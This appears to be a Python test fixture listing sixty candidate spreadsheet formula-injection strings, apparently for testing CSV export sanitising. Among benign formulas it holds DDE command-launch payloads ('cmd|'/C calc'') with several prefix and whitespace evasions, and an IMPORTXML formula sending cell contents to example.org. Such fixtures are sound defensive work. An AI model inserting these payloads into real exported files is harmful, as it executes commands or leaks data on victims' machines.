"""Sixty texts that a spreadsheet could take for a formula, or a file for something else than one cell."""

FORMULAS = [
    "=1+1", "=1+1;2", "=A1", "=SUM(A1:A9)", "=HYPERLINK(\"https://example.org\",\"click\")",
    "=cmd|'/C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=IMPORTXML(CONCAT(\"https://example.org/?\",A1),\"//a\")",
    "=WEBSERVICE(\"https://example.org/\")", "=-1+1", "=+1", "=@SUM(1)", "==1", "= 1+1", "=\"a\"", "={1,2}", "='a'!A1",
    "+1+1", "+A1", "+cmd|'/C calc'!A0", "+\"a\"", "++1", "+SUM(A1)", "+ 1",
    "-1+1", "-A1", "-cmd|'/C calc'!A0", "--1", "-\"a\"", "- 1", "-2+3+cmd|'/C calc'!A0",
    "@SUM(1)", "@A1", "@cmd|'/C calc'!A0", "@@", "@ 1",
    "\t=1+1", "\t+1", "\ttext", "\r=1+1", "\r\n=1+1", "\n=1+1", "\n-1", "\rtext",
    " =1+1", "   +1", "  @SUM(1)", " -1", "  \t=1", " \n=1",
    "＝1+1", "＋1", "－1", "＠SUM(1)", " ＝1",
    "=1,=2", "=\"\"\"\",=2", "=1\n=2\r\n=3", "=_x000D_1", "=<b>&amp;</b>]]>",
]  # fmt: skip
